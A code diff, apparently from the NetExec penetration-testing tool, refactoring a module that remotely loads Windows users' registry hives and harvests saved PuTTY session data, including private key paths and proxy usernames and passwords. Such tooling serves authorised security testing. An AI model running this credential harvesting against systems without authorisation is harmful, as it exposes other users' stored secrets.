@@ -4,12 +4,13 @@ import traceback
 from urllib.parse import unquote
 from impacket.dcerpc.v5.rpcrt import DCERPCException
 from impacket.dcerpc.v5 import rrp
-from impacket.examples.secretsdump import RemoteOperations
 from os import makedirs
 from nxc.helpers.logger import highlight
 from nxc.paths import NXC_PATH
 import re
 
+PROFILE_LIST_KEY = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList"
+
 
 class NXCModule:
     """Module by @NeffIsBack"""
@@ -23,20 +24,14 @@ class NXCModule:
     def __init__(self):
         self.context = None
         self.module_options = None
-        self.rrp = None
+        self.reg = None
 
     def options(self, context, module_options):
         """No options available"""
 
     def get_logged_on_users(self):
         """Enumerate all logged in and loaded Users on System"""
-        reg_handle = rrp.hOpenUsers(self.rrp._RemoteOperations__rrp)["phKey"]
-        key_handle = rrp.hBaseRegOpenKey(self.rrp._RemoteOperations__rrp, reg_handle, "")["phkResult"]
-        users = rrp.hBaseRegQueryInfoKey(self.rrp._RemoteOperations__rrp, key_handle)["lpcSubKeys"]
-
-        # Get User Names
-        user_objects = [rrp.hBaseRegEnumKey(self.rrp._RemoteOperations__rrp, key_handle, i)["lpNameOut"].split("\x00")[:-1][0] for i in range(users)]
-        rrp.hBaseRegCloseKey(self.rrp._RemoteOperations__rrp, key_handle)
+        user_objects = self.reg.subkeys("HKU")
 
         # Filter legit users in regex
         user_objects.remove(".DEFAULT")
@@ -45,24 +40,13 @@ class NXCModule:
 
     def get_all_users(self):
         """Get all users that have logged in at some point in time"""
-        reg_handle = rrp.hOpenLocalMachine(self.rrp._RemoteOperations__rrp)["phKey"]
-        key_handle = rrp.hBaseRegOpenKey(self.rrp._RemoteOperations__rrp, reg_handle, "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList")["phkResult"]
-        users = rrp.hBaseRegQueryInfoKey(self.rrp._RemoteOperations__rrp, key_handle)["lpcSubKeys"]
-
-        # Get User Names
-        user_objects = [rrp.hBaseRegEnumKey(self.rrp._RemoteOperations__rrp, key_handle, i)["lpNameOut"].split("\x00")[:-1][0] for i in range(users)]
-        rrp.hBaseRegCloseKey(self.rrp._RemoteOperations__rrp, key_handle)
-        return user_objects
+        return self.reg.subkeys(PROFILE_LIST_KEY)
 
     def sid_to_name(self, all_users):
         """Convert SID to Usernames for better readability"""
-        reg_handle = rrp.hOpenLocalMachine(self.rrp._RemoteOperations__rrp)["phKey"]
-
         user_dict = {}
         for user_object in all_users:
-            key_handle = rrp.hBaseRegOpenKey(self.rrp._RemoteOperations__rrp, reg_handle, f"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList\\{user_object}")["phkResult"]
-            user_profile_path = rrp.hBaseRegQueryValue(self.rrp._RemoteOperations__rrp, key_handle, "ProfileImagePath")[1].split("\x00")[:-1][0]
-            rrp.hBaseRegCloseKey(self.rrp._RemoteOperations__rrp, key_handle)
+            user_profile_path = self.reg.query_value(f"{PROFILE_LIST_KEY}\\{user_object}", "ProfileImagePath")[1].split("\x00")[:-1][0]
             user_dict[user_object] = user_profile_path.split("\\")[-1]
         return user_dict
 
@@ -70,76 +54,55 @@ class NXCModule:
         """Load missing users into registry to access their registry keys."""
         for user_object in unloaded_user_objects:
             # Extract profile Path of NTUSER.DAT
-            reg_handle = rrp.hOpenLocalMachine(self.rrp._RemoteOperations__rrp)["phKey"]
-            key_handle = rrp.hBaseRegOpenKey(self.rrp._RemoteOperations__rrp, reg_handle, f"SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList\\{user_object}")["phkResult"]
-            user_profile_path = rrp.hBaseRegQueryValue(self.rrp._RemoteOperations__rrp, key_handle, "ProfileImagePath")[1].split("\x00")[:-1][0]
-            rrp.hBaseRegCloseKey(self.rrp._RemoteOperations__rrp, key_handle)
+            user_profile_path = self.reg.query_value(f"{PROFILE_LIST_KEY}\\{user_object}", "ProfileImagePath")[1].split("\x00")[:-1][0]
 
             # Load Profile
-            reg_handle = rrp.hOpenUsers(self.rrp._RemoteOperations__rrp)["phKey"]
-            key_handle = rrp.hBaseRegOpenKey(self.rrp._RemoteOperations__rrp, reg_handle, "")["phkResult"]
-
             self.context.log.debug(f"LOAD USER INTO REGISTRY: {user_object}")
-            rrp.hBaseRegLoadKey(self.rrp._RemoteOperations__rrp, key_handle, user_object, f"{user_profile_path}\\NTUSER.DAT")
-            rrp.hBaseRegCloseKey(self.rrp._RemoteOperations__rrp, key_handle)
+            rrp.hBaseRegLoadKey(self.reg.get_dce(), self.reg.open_key("HKU"), user_object, f"{user_profile_path}\\NTUSER.DAT")
 
     def unload_missing_users(self, unloaded_user_objects):
         """If some user were not logged in at the beginning we unload them from registry."""
-        reg_handle = rrp.hOpenUsers(self.rrp._RemoteOperations__rrp)["phKey"]
-        key_handle = rrp.hBaseRegOpenKey(self.rrp._RemoteOperations__rrp, reg_handle, "")["phkResult"]
-
         for user_object in unloaded_user_objects:
             self.context.log.debug(f"UNLOAD USER FROM REGISTRY: {user_object}")
             try:
-                rrp.hBaseRegUnLoadKey(self.rrp._RemoteOperations__rrp, key_handle, user_object)
+                # Handles still open on the hive would make the unload fail
+                self.reg.close_key(f"HKU\\{user_object}")
+                rrp.hBaseRegUnLoadKey(self.reg.get_dce(), self.reg.open_key("HKU"), user_object)
             except Exception as e:
                 self.context.log.fail(f"Error unloading user {user_object} in registry: {e}")
                 self.context.log.debug(traceback.format_exc())
-        rrp.hBaseRegCloseKey(self.rrp._RemoteOperations__rrp, key_handle)
 
     def get_private_key_paths(self, all_users):
         """Get all private key paths for all users"""
         sessions = []
-        reg_handle = rrp.hOpenUsers(self.rrp._RemoteOperations__rrp)["phKey"]
+        value_names = ["PublicKeyFile", "ProxyHost", "ProxyPort", "ProxyUsername", "ProxyPassword", "HostName", "PortNumber", "Protocol"]
 
         for user in all_users:
             try:
-                key_handle = rrp.hBaseRegOpenKey(self.rrp._RemoteOperations__rrp, reg_handle, f"{user}\\Software\\SimonTatham\\PuTTY\\Sessions")["phkResult"]
-                reg_sessions = rrp.hBaseRegQueryInfoKey(self.rrp._RemoteOperations__rrp, key_handle)["lpcSubKeys"]
-                self.context.log.info(f'Found {reg_sessions} sessions for user "{self.user_dict[user]}" in registry!')
-
-                # Get Session Names
-                session_names = [rrp.hBaseRegEnumKey(self.rrp._RemoteOperations__rrp, key_handle, i)["lpNameOut"].split("\x00")[:-1][0] for i in range(reg_sessions)]
-                rrp.hBaseRegCloseKey(self.rrp._RemoteOperations__rrp, key_handle)
+                sessions_key = f"HKU\\{user}\\Software\\SimonTatham\\PuTTY\\Sessions"
+                session_names = self.reg.subkeys(sessions_key)
+                self.context.log.info(f'Found {len(session_names)} sessions for user "{self.user_dict[user]}" in registry!')
 
                 # Extract stored Session infos
                 for session_name in session_names:
-                    key_handle = rrp.hBaseRegOpenKey(self.rrp._RemoteOperations__rrp, reg_handle, f"{user}\\Software\\SimonTatham\\PuTTY\\Sessions\\{session_name}")["phkResult"]
-
-                    # Get private Key Path
-                    private_key_path = rrp.hBaseRegQueryValue(self.rrp._RemoteOperations__rrp, key_handle, "PublicKeyFile")[1].split("\x00")[:-1][0]
-                    proxy_host = rrp.hBaseRegQueryValue(self.rrp._RemoteOperations__rrp, key_handle, "ProxyHost")[1].split("\x00")[:-1][0]
-                    proxy_port = rrp.hBaseRegQueryValue(self.rrp._RemoteOperations__rrp, key_handle, "ProxyPort")[1]
-                    proxy_username = rrp.hBaseRegQueryValue(self.rrp._RemoteOperations__rrp, key_handle, "ProxyUsername")[1].split("\x00")[:-1][0]
-                    proxy_password = rrp.hBaseRegQueryValue(self.rrp._RemoteOperations__rrp, key_handle, "ProxyPassword")[1].split("\x00")[:-1][0]
-
-                    # Session infos
-                    hostname = rrp.hBaseRegQueryValue(self.rrp._RemoteOperations__rrp, key_handle, "HostName")[1].split("\x00")[:-1][0]
-                    port = rrp.hBaseRegQueryValue(self.rrp._RemoteOperations__rrp, key_handle, "PortNumber")[1]
-                    protocol = rrp.hBaseRegQueryValue(self.rrp._RemoteOperations__rrp, key_handle, "Protocol")[1].split("\x00")[:-1][0]
+                    session_key = f"{sessions_key}\\{session_name}"
+                    try:
+                        # Values missing from the session are left empty
+                        values = {name: value[1] if value is not None else "" for name, value in self.reg.query_values(session_key, value_names).items()}
+                    finally:
+                        self.reg.close_key(session_key)
                     sessions.append({
                         "user": self.user_dict[user],
                         "session_name": unquote(session_name),
-                        "hostname": hostname,
-                        "port": port,
-                        "protocol": protocol,
-                        "private_key_path": private_key_path,
-                        "proxy_host": proxy_host,
-                        "proxy_port": proxy_port,
-                        "proxy_username": proxy_username,
-                        "proxy_password": proxy_password
+                        "hostname": values["HostName"].split("\x00")[0],
+                        "port": values["PortNumber"],
+                        "protocol": values["Protocol"].split("\x00")[0],
+                        "private_key_path": values["PublicKeyFile"].split("\x00")[0],
+                        "proxy_host": values["ProxyHost"].split("\x00")[0],
+                        "proxy_port": values["ProxyPort"],
+                        "proxy_username": values["ProxyUsername"].split("\x00")[0],
+                        "proxy_password": values["ProxyPassword"].split("\x00")[0]
                     })
-                    rrp.hBaseRegCloseKey(self.rrp._RemoteOperations__rrp, key_handle)
 
             except DCERPCException as e:
                 if str(e).find("ERROR_FILE_NOT_FOUND"):
@@ -197,25 +160,21 @@ class NXCModule:
         self.context = context
 
         try:
-            self.rrp = RemoteOperations(connection.conn, connection.kerberos)
-            self.rrp.enableRegistry()
-
-            all_users = self.get_all_users()
-            loaded_user_objects = self.get_logged_on_users()
-            self.user_dict = self.sid_to_name(all_users)
-
-            # Users which must be loaded into registry:
-            unloaded_user_objects = list(set(all_users).symmetric_difference(set(loaded_user_objects)))
-            self.load_missing_users(unloaded_user_objects)
-
-            sessions = self.get_private_key_paths(all_users)
-            if sessions:
-                self.extract_session(sessions)
-            else:
-                self.context.log.info("No saved putty sessions found in registry")
-
-            self.unload_missing_users(unloaded_user_objects)
+            with connection.registry as self.reg:
+                all_users = self.get_all_users()
+                loaded_user_objects = self.get_logged_on_users()
+                self.user_dict = self.sid_to_name(all_users)
+
+                # Users which must be loaded into registry:
+                unloaded_user_objects = list(set(all_users).symmetric_difference(set(loaded_user_objects)))
+                self.load_missing_users(unloaded_user_objects)
+
+                sessions = self.get_private_key_paths(all_users)
+                if sessions:
+                    self.extract_session(sessions)
+                else:
+                    self.context.log.info("No saved putty sessions found in registry")
+
+                self.unload_missing_users(unloaded_user_objects)
         except Exception as e:
             context.log.exception(f"Error: {e}")
-        finally:
-            self.rrp.finish()